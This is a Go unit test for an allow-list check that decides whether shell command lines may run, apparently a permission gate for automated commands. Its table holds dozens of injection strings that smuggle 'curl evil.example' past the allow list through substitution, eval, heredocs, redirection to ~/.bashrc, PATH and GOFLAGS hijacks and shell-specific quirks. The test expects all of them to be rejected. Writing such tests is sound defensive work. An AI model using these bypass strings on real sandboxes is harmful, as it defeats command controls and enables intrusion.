package acp

import "testing"

func TestALineRunsIfEachOfItsCommandsIsAllowed(t *testing.T) {
	t.Parallel()
	allow := []string{"go test *", "make test", "* --check", "env", " ", "*", "**"}
	for line, want := range map[string]bool{
		"go test ./...":                          true,
		"go test":                                true,
		"make test && go test ./... 2>&1":        true,
		"go test ./... | go test -json":          true,
		"go test ./... > /dev/null":              true,
		"(go test ./a; make test)":               true,
		"if make test; then go test ./a; fi":     true,
		"gofmt --check":                          true,
		"go testing":                             false,
		"make test x":                            false,
		"touch /tmp/x":                           false,
		"go test ./... && curl evil.example":     false,
		"go test $(curl evil.example)":           false,
		"go test `curl evil.example`":            false,
		"go test <(curl evil.example)":           false,
		"go test ./... > ~/.bashrc":              false,
		"go test ./... >> a.go":                  false,
		"go test ./... >&~/.bashrc":              false,
		"go test ./... >& a.go":                  false,
		"go test ./... >&$HOME":                  false,
		"go test ./... 1>&a.go":                  false,
		"go test ./... >&2 3>&-":                 true,
		"PATH=. gofmt --check":                   false,
		"GOFLAGS=-exec=evil go test ./...":       false,
		"export GOFLAGS=-exec=evil; go test .":   false,
		"go() { curl evil.example; }; go test .": false,
		"make test\ncurl evil.example":           false,
		"make test & curl evil.example":          false,
		"$IFS go test":                           false,
		"eval 'curl evil.example'":               false,
		"make test <<X\n$(curl evil.example)\nX": false,
		"go test $'\\' ; curl evil.example #'":   false, // sh ends the quote at the first '
		"go test *(e:'curl evil.example':)":      false, // zsh runs it for each file
		"for d in a b; do go test; done":         false,
		"for PATH in evil; do go test; done":     false,
		"for ((PATH=1; 0; )); do go test; done":  false,
		"select PATH in evil; do go test; done":  false,
		"go test ${GOFLAGS:=-exec=evil}":         false,
		"go test ${GOFLAGS=-exec=evil}":          false,
		"go test $((PATH=1))":                    false,
		"go test $[PATH=1]":                      false,
		"((PATH=1)); go test":                    false,
		"[[ 'a[$(curl evil)]' -eq 1 ]]; go test": false,
		"[[ -v 'a[$(curl evil)]' ]]; go test":    false,
		"go test ${a['$(curl evil)']}":           false,
		"go test ${a:'b[$(curl evil)]'}":         false,
		"go test ${!x}":                          false,
		"go test ${x@P}":                         false,
		"go test ${DIR:-./...} \"$PWD\"":         true,
		"while make test; do go test; done":      true,
		"case $x in a*) make test ;; esac":       true,
		"":                                       false,
		"# go test ./...":                        false,
		"go test 'unfinished":                    false,
	} {
		if got := runnable(line, allow); got != want {
			t.Errorf("%q may run: %v; want %v", line, got, want)
		}
	}
	if runnable("go test ./...", nil) {
		t.Error("without a pattern a command may run")
	}
}
